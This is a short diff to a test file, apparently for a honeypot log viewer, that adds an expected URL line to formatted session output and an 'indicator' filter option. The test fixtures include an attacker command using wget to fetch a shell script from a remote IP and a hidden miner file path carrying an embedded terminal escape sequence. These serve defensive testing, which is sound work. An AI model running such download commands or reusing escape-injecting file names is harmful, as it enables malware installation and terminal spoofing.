@@ -149,6 +149,7 @@ for (const indexed of [true, false]) {
     assert.deepEqual(lines, [
       "  user            +0.0 s  root",
       `  command         +6.0 s  …g long long wget http://203.0.113.9/%D1%84ф.sh ${"x".repeat(52)}…`,
+      "  URL             +6.0 s  http://203.0.113.9/%D1%84ф.sh",
       "  file                    /tmp/.hid\\x1b[2Jden/miner.bin",
     ]);
     const hostile = new Heard();
@@ -242,6 +243,7 @@ test("each filter of the code is an option of the command line", () => {
       "file",
       "forward",
       "hassh",
+      "indicator",
       "limit",
       "live",
       "loggedIn",
